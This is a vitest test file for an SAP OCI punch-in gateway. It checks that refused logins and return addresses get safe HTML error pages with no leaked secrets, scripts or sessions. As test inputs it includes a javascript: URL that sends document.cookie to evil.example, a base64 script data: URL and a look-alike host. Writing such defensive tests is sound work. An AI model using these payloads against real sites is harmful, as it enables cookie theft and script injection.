import { describe, expect, it } from 'vitest';
import type { GatewayConfigInput } from '../../../schemas/config.ts';
import { acceptOciPunchIn, OciError } from '../../../src/oci/index.ts';
import { decodeEntities } from '../../support/html-forms.ts';
import { loadOciFixtures, type OciFixture } from '../../support/oci-fixtures.ts';
import { GATEWAY_ORIGIN, type Stack, testConfig } from '../../support/stack.ts';
import { createOciStack, cspOf, getPunchIn, sendPunchIn } from './oci-http.ts';

/** What a refusal page says: its status, heading and message, and whether it leaked anything. */
async function refusal(response: Response) {
  const text = await response.text();
  return {
    status: response.status,
    heading: decodeEntities(/<h1>([\s\S]*?)<\/h1>/.exec(text)?.[1] ?? ''),
    message: decodeEntities(/<p class="error" role="alert">([\s\S]*?)<\/p>/.exec(text)?.[1] ?? ''),
    text,
  };
}

const LOGIN = 'The catalog login was refused';
const HOOK = 'The return address was refused';
const REQUEST = 'The punch-in request could not be read';

const SRM_HOOK = 'https://srm.acme.example/sap/bc/gui/sap/its/bbpsc02/?sap-client=100';
const SAP1 = { USERNAME: 'sap1', PASSWORD: 'sap1-secret', HOOK_URL: SRM_HOOK, '~OkCode': 'ADDI' };

/** Nothing was opened: no print-service call, no session, no cart line. */
function expectNothingOpened(stack: Stack) {
  expect(stack.upstreamCalls).toEqual([]);
}

describe('refused OCI punch-ins: a clear HTML page, the right status, no session, no secret', () => {
  it.each([
    [
      'a wrong password',
      { ...SAP1, PASSWORD: 'sap1-secreT' },
      401,
      LOGIN,
      'The OCI user name or password is not correct.',
    ],
    [
      'a wrong user',
      { ...SAP1, USERNAME: 's4' },
      401,
      LOGIN,
      'The OCI user name or password is not correct.',
    ],
    [
      "another OCI buyer's valid login",
      { ...SAP1, USERNAME: 's4', PASSWORD: 's4-secret' },
      401,
      LOGIN,
      'The OCI user name or password is not correct.',
    ],
    [
      'no password',
      { ...SAP1, PASSWORD: '' },
      401,
      LOGIN,
      'The login parameter PASSWORD is missing or empty.',
    ],
    [
      'a HOOK_URL on a foreign host',
      { ...SAP1, HOOK_URL: 'https://evil.example/collect' },
      400,
      HOOK,
      `HOOK_URL host "evil.example" is not among this buyer's allowed hook hosts.`,
    ],
    [
      'a HOOK_URL on a look-alike host',
      { ...SAP1, HOOK_URL: 'https://srm.acme.example.evil.example/' },
      400,
      HOOK,
      `HOOK_URL host "srm.acme.example.evil.example" is not among this buyer's allowed hook hosts.`,
    ],
    [
      'a javascript: HOOK_URL',
      { ...SAP1, HOOK_URL: 'javascript:fetch("//evil.example/"+document.cookie)' },
      400,
      HOOK,
      'HOOK_URL uses the javascript: scheme, which is never allowed.',
    ],
    [
      'a data: HOOK_URL',
      { ...SAP1, HOOK_URL: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
      400,
      HOOK,
      'HOOK_URL uses the data: scheme, which is never allowed.',
    ],
    [
      'SAPEVENT: for a buyer without allowSapEvent',
      { ...SAP1, HOOK_URL: 'SAPEVENT:POST' },
      400,
      HOOK,
      'HOOK_URL uses the SAPEVENT: scheme, which is not enabled for this buyer.',
    ],
    [
      'no HOOK_URL',
      { USERNAME: 'sap1', PASSWORD: 'sap1-secret' },
      400,
      HOOK,
      'The parameter HOOK_URL is missing or empty; without it the cart cannot be returned.',
    ],
    [
      'an unknown FUNCTION',
      { ...SAP1, FUNCTION: 'DOWNLOADJSON' },
      400,
      REQUEST,
      'FUNCTION=DOWNLOADJSON is not supported; use DETAIL, DETAILADD, VALIDATE, SOURCING, BACKGROUND_SEARCH or none.',
    ],
    [
      'VALIDATE without PRODUCTID',
      { ...SAP1, FUNCTION: 'VALIDATE', QUANTITY: '5' },
      400,
      REQUEST,
      'FUNCTION=VALIDATE needs the parameter PRODUCTID.',
    ],
    [
      'VALIDATE with a quantity that is not a number',
      { ...SAP1, FUNCTION: 'VALIDATE', PRODUCTID: 'BC-STD', QUANTITY: '1e3' },
      400,
      REQUEST,
      'QUANTITY=1e3 is not a positive number with at most 11 digits before and 3 after the decimal point.',
    ],
    [
      'BACKGROUND_SEARCH without SEARCHSTRING',
      { ...SAP1, FUNCTION: 'BACKGROUND_SEARCH' },
      400,
      REQUEST,
      'FUNCTION=BACKGROUND_SEARCH needs the parameter SEARCHSTRING.',
    ],
  ])('%s → %i', async (_case, params, status, heading, message) => {
    const stack = await createOciStack();
    const page = await refusal(await getPunchIn(stack, 'sap1', params));
    expect({ status: page.status, heading: page.heading, message: page.message }).toEqual({
      status,
      heading,
      message,
    });
    expect(page.text).not.toContain('sap1-secret');
    expect(page.text).not.toMatch(/OciError|GatewayError|\bat \S+\.ts/);
    expectNothingOpened(stack);
  });

  it('the page shows inside the buyer frame, is never cached and runs no script', async () => {
    const stack = await createOciStack();
    const response = await getPunchIn(stack, 'sap1', { ...SAP1, PASSWORD: 'nope' });
    expect(response.headers.get('content-type')).toBe('text/html; charset=UTF-8');
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(cspOf(response.headers)['frame-ancestors']).toBe("'self' srm.acme.example portal.acme.example");
    expect(await response.text()).not.toContain('<script');
  });

  it('a value the codec quotes is escaped on the page', async () => {
    const stack = await createOciStack();
    const page = await refusal(
      await getPunchIn(stack, 'sap1', {
        ...SAP1,
        FUNCTION: 'VALIDATE',
        PRODUCTID: '<b>x</b>',
        QUANTITY: '<i>',
      }),
    );
    expect(page.message).toBe(
      'QUANTITY=<i> is not a positive number with at most 11 digits before and 3 after the decimal point.',
    );
    expect(page.text).toContain('QUANTITY=&lt;i&gt;');
    expect(page.text).not.toContain('<i>');
  });

  it('other methods get 405 with Allow: GET, POST', async () => {
    const stack = await createOciStack();
    const response = await stack.request(`${GATEWAY_ORIGIN}/oci/sap1?${new URLSearchParams(SAP1)}`, {
      method: 'PUT',
    });
    expect(response.headers.get('allow')).toBe('GET, POST');
    expect(await refusal(response)).toMatchObject({
      status: 405,
      heading: REQUEST,
      message: 'An OCI punch-in must use GET or POST, not PUT.',
    });
  });

  it('a JSON body gets 415', async () => {
    const stack = await createOciStack();
    const response = await stack.request(`${GATEWAY_ORIGIN}/oci/sap1`, {
      method: 'POST',
      body: JSON.stringify(SAP1),
      headers: { 'Content-Type': 'application/json' },
    });
    expect(await refusal(response)).toMatchObject({
      status: 415,
      message:
        'A punch-in body must be application/x-www-form-urlencoded or multipart/form-data, not application/json.',
    });
  });

  it('more than 200 parameters, an oversized value and an oversized body are refused', async () => {
    const stack = await createOciStack();
    const many = Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`p${i}`, 'x']));
    expect(await refusal(await getPunchIn(stack, 'sap1', { ...SAP1, ...many }))).toMatchObject({
      status: 400,
      message: 'The request has more than 200 parameters; a punch-in needs far fewer.',
    });
    const post = (body: string) =>
      stack.request(`${GATEWAY_ORIGIN}/oci/sap1`, {
        method: 'POST',
        body,
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      });
    const form = new URLSearchParams(SAP1).toString();
    expect(await refusal(await post(`${form}&note=${'x'.repeat(16 * 1024 + 1)}`))).toMatchObject({
      status: 400,
      message: 'The value of parameter "note" is longer than 16384 bytes.',
    });
    expect(await refusal(await post(`${form}&note=${'x'.repeat(256 * 1024)}`))).toMatchObject({
      status: 413,
      message: 'The request body is larger than 262144 bytes.',
    });
    expectNothingOpened(stack);
  });

  it('an unknown buyer and a cXML buyer have no OCI catalog (404)', async () => {
    const stack = await createOciStack();
    for (const buyer of ['nobody', 'acme']) {
      expect(await refusal(await getPunchIn(stack, buyer, SAP1))).toMatchObject({
        status: 404,
        heading: 'No catalog here',
        message:
          "There is no OCI catalog at this address. Check the catalog's URL in your procurement system's settings.",
      });
    }
  });

  it('after five wrong passwords from any addresses, the buyer waits even with the right one (429, Retry-After) except from its allowed range', async () => {
    let address = '198.51.100.7';
    const config = testConfig();
    config.buyers = config.buyers.map((b) =>
      b.id === 'sap1' ? { ...b, authAllowedAddresses: ['192.0.2.0/24'] } : b,
    );
    const stack = await createOciStack(config, { gatewayDeps: { clientAddress: () => address } });
    for (let i = 0; i < 5; i++) {
      address = `198.51.100.${i + 1}`;
      expect((await getPunchIn(stack, 'sap1', { ...SAP1, PASSWORD: `guess-${i}` })).status).toBe(401);
    }
    address = '203.0.113.1';
    const locked = await getPunchIn(stack, 'sap1', SAP1);
    expect(locked.headers.get('Retry-After')).toBe('900');
    expect(await refusal(locked)).toMatchObject({
      status: 429,
      heading: 'The catalog could not be opened',
      message: 'Too many failed authentication attempts for this buyer; try again in 900 seconds.',
    });
    // Other buyers from a guesser's address, and the buyer from its allowed range, carry on.
    address = '198.51.100.1';
    const s4 = { USERNAME: 's4', PASSWORD: 's4-secret', HOOK_URL: 'https://s4.acme.example:44300/r' };
    expect((await getPunchIn(stack, 's4', s4)).status).toBe(303);
    address = '192.0.2.40';
    expect((await getPunchIn(stack, 'sap1', SAP1)).status).toBe(303);
    stack.clock.advance(900);
    address = '203.0.113.1';
    expect((await getPunchIn(stack, 'sap1', SAP1)).status).toBe(303);
  });

  it('login field names that clash are refused when the gateway starts', async () => {
    const config = testConfig();
    config.buyers = config.buyers.map((b) =>
      b.id === 's4' ? { ...b, loginFields: { username: 'USER', password: 'user' } } : b,
    );
    await expect(createOciStack(config)).rejects.toThrow(
      'loginFields.password: must differ from loginFields.username ("USER")',
    );
  });

  it('customer fields longer than their SAP field are refused when the gateway starts', async () => {
    const config = testConfig();
    config.buyers = config.buyers.map((b) =>
      b.id === 's4' ? { ...b, custFields: ['KOSTENSTELLE-4711'] } : b,
    );
    await expect(createOciStack(config)).rejects.toThrow(
      /^buyers\[\d+\]: \(s4\) its configuration cannot fill NEW_ITEM-CUST_FIELD1: CUST_FIELD1 "KOSTENSTELLE-4711", longer than SAP's 10 characters\.$/,
    );
  });
});

// The codec's refused punch-ins (fixtures/oci/invalid), replayed over HTTP for a buyer configured like the
// codec's fixture buyer: each gets the page with the codec's own message and the status for its code.
const STATUS_BY_CODE: Record<string, number> = {
  bad_login: 401,
  missing_login: 401,
  missing_hook_url: 400,
  hook_url_malformed: 400,
  hook_url_scheme: 400,
  hook_url_not_allowed: 400,
  bad_function: 400,
  missing_product_id: 400,
  missing_search_string: 400,
  bad_quantity: 400,
  malformed_body: 400,
  unsupported_content_type: 415,
  bad_method: 405,
};

/** Fixtures whose buyer settings a gateway config can express (not parse limits or requireHttps). */
const CONFIGURABLE = new Set(['loginFields', 'hookUrlHosts', 'allowSapEvent', 'charset']);
const replayable = loadOciFixtures('invalid').filter(
  (f) =>
    Object.keys(f.buyer).every((key) => CONFIGURABLE.has(key) || key === 'username' || key === 'password') &&
    f.error?.code !== 'bad_login_fields',
);

function configFor(fixture: OciFixture): GatewayConfigInput {
  const config = testConfig();
  const { username, password, hookUrlHosts, loginFields, allowSapEvent, charset } = fixture.buyer;
  config.buyers = [
    ...config.buyers,
    {
      id: 'codec',
      storefront: 'demo',
      protocol: 'oci',
      username,
      password,
      hookUrlHosts: [...hookUrlHosts],
      ...(loginFields !== undefined && { loginFields }),
      ...(allowSapEvent !== undefined && { allowSapEvent }),
      ...(charset !== undefined && { charset }),
    },
  ];
  return config;
}

describe('every refused fixture of the codec, over HTTP', () => {
  it('replays most of them', () => {
    expect(replayable.length).toBeGreaterThanOrEqual(30);
  });

  it.each(replayable.map((f) => [f.file, f] as const))('%s', async (_file, fixture) => {
    let expected: OciError | undefined;
    try {
      acceptOciPunchIn(fixture.request, fixture.buyer);
    } catch (error) {
      if (error instanceof OciError) expected = error;
    }
    expect(expected?.code).toBe(fixture.error?.code);
    const stack = await createOciStack(configFor(fixture));
    const page = await refusal(
      await sendPunchIn(stack, 'codec', {
        description: fixture.description,
        method: fixture.request.method,
        query: fixture.request.query,
        ...(fixture.request.contentType !== undefined && { contentType: fixture.request.contentType }),
        body: fixture.request.body,
      }),
    );
    expect(page.status).toBe(STATUS_BY_CODE[fixture.error?.code ?? '']);
    expect(page.message).toBe(expected?.message);
    expect(page.text).not.toContain('sap1-secret');
    expectNothingOpened(stack);
  });
});
